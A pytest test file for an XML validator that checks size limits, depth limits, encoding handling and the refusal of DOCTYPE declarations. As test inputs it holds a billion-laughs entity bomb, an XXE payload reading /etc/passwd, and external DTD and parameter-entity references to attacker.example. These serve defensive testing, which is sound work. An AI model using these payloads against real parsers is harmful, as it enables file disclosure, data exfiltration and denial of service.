"""validate_xml: every rejection with its status and code, and encodings honoured."""

from __future__ import annotations

import codecs

import pytest

from handlers.transform.xml_validation import XmlRejected, validate_xml

LIMITS = {"max_bytes": 10_000, "max_depth": 8}

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"""

EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>'


def rejection(body: bytes, **limits: int) -> XmlRejected:
    with pytest.raises(XmlRejected) as caught:
        validate_xml(body, **{**LIMITS, **limits})
    return caught.value


def test_oversize_body_is_413_naming_limit_and_size() -> None:
    # GIVEN a body one byte over the limit
    body = b"<a>" + b"x" * 9_994 + b"</a>"
    # WHEN it is validated
    error = rejection(body)
    # THEN it is 413 payload_too_large and the message names both numbers
    assert (error.status_code, error.code) == (413, "payload_too_large")
    assert "10001" in error.message and "10000" in error.message


def test_size_is_checked_before_anything_else() -> None:
    # GIVEN an oversize body that is also a billion laughs document
    error = rejection(BILLION_LAUGHS, max_bytes=100)
    # THEN the size check wins, without parsing
    assert error.status_code == 413


def test_empty_body_is_400() -> None:
    error = rejection(b"")
    assert (error.status_code, error.code) == (400, "empty_body")


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, b"<!DOCTYPE a><a/>"])
def test_any_doctype_or_entity_declaration_is_refused_not_expanded(body: bytes) -> None:
    error = rejection(body)
    assert (error.status_code, error.code) == (400, "doctype_forbidden")
    assert "DOCTYPE" in error.message


@pytest.mark.parametrize(
    "declaration",
    [
        b"<!DOCTYPE a>",
        b'<!DOCTYPE a [<!ENTITY e "x">]>',
        b'<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd">',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
        b'<!DOCTYPE a [<!NOTATION n SYSTEM "viewer">]>',
    ],
)
def test_a_well_formed_document_that_declares_a_dtd_is_refused_as_doctype_forbidden(
    declaration: bytes,
) -> None:
    # GIVEN a document that is accepted, and the same document with a DTD on its own line before the root
    accepted = b'<?xml version="1.0"?>\n<a><b>x</b></a>'
    assert validate_xml(accepted, **LIMITS) == accepted
    with_dtd = accepted.replace(b"\n", b"\n" + declaration + b"\n")
    # WHEN the one with the DTD is validated
    error = rejection(with_dtd)
    # THEN it is refused for the declaration, on the line that holds it, and not as malformed XML
    assert (error.status_code, error.code) == (400, "doctype_forbidden")
    assert error.message == (
        "the document declares a DOCTYPE/DTD or entities; these are refused for security (entity "
        "expansion, external entities): remove the declaration (line 2)"
    )


def test_malformed_xml_reports_expat_line_and_column() -> None:
    # GIVEN a document whose second line closes the wrong tag
    error = rejection(b"<a>\n  <b></c>\n</a>")
    # THEN it is 400 malformed_xml, pointing at line 2
    assert (error.status_code, error.code) == (400, "malformed_xml")
    assert "line 2, column 7" in error.message and "mismatched tag" in error.message


@pytest.mark.parametrize("body", [b"just text", b"<a>", b"<a/><b/>", b"   "])
def test_not_well_formed_documents_are_400(body: bytes) -> None:
    assert rejection(body).code == "malformed_xml"


def test_nesting_deeper_than_the_limit_is_400_too_deep() -> None:
    # GIVEN 9 nested elements with a limit of 8
    body = b"<e>" * 9 + b"</e>" * 9
    error = rejection(body)
    assert (error.status_code, error.code) == (400, "too_deep")
    assert "8" in error.message


def test_nesting_at_the_limit_is_accepted() -> None:
    body = b"<e>" * 8 + b"</e>" * 8
    assert validate_xml(body, **LIMITS) == body


def test_utf8_document_is_returned_unchanged() -> None:
    body = '<?xml version="1.0" encoding="utf-8"?><a x="ü">Grüße</a>'.encode()
    assert validate_xml(body, **LIMITS) is body


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "UTF-16", "UTF-16LE", "UTF-16BE"])
def test_declared_encoding_is_decoded_and_rewritten_as_utf8(encoding: str) -> None:
    # GIVEN a document in a declared non-UTF-8 encoding with non-ASCII text
    text = f'<?xml version="1.0" encoding="{encoding}"?><name>Zoë Müller</name>'
    body = text.encode(encoding.replace("UTF-16", "utf-16"))
    # WHEN it is validated
    normalised = validate_xml(body, **LIMITS)
    # THEN the result is UTF-8 with the same characters and a UTF-8 declaration
    assert normalised == b'<?xml version="1.0" encoding="UTF-8"?><name>Zo\xc3\xab M\xc3\xbcller</name>'


def test_utf8_bom_is_removed() -> None:
    assert validate_xml(codecs.BOM_UTF8 + b"<a>\xc3\xa9</a>", **LIMITS) == b"<a>\xc3\xa9</a>"


def test_bom_wins_over_a_contradicting_declaration() -> None:
    body = codecs.BOM_UTF8 + '<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>'.encode()
    assert validate_xml(body, **LIMITS) == '<?xml version="1.0" encoding="UTF-8"?><a>é</a>'.encode()


@pytest.mark.parametrize("declared", ["klingon", "base64", "zlib", "rot13"])
def test_unknown_or_non_text_encoding_is_400(declared: str) -> None:
    error = rejection(f'<?xml version="1.0" encoding="{declared}"?><a/>'.encode())
    assert (error.status_code, error.code) == (400, "unsupported_encoding")
    assert declared in error.message


def test_bytes_invalid_for_the_declared_encoding_are_400() -> None:
    # GIVEN a document declared US-ASCII that contains UTF-8 bytes
    error = rejection('<?xml version="1.0" encoding="US-ASCII"?><a>é</a>'.encode())
    assert (error.status_code, error.code) == (400, "invalid_encoding")
    assert "US-ASCII" in error.message


def test_invalid_utf8_without_declaration_is_400() -> None:
    error = rejection(b"<a>\xe9t\xe9</a>")
    assert (error.status_code, error.code) == (400, "invalid_encoding")
    assert "byte offset 3" in error.message


def test_namespaces_cdata_comments_and_processing_instructions_are_accepted() -> None:
    body = (
        b'<?xml version="1.0"?><?app hint?><r xmlns="urn:a" xmlns:p="urn:p"><!-- c -->'
        b"<p:x><![CDATA[<not> & markup]]></p:x>mixed <b>content</b></r>"
    )
    assert validate_xml(body, **LIMITS) == body
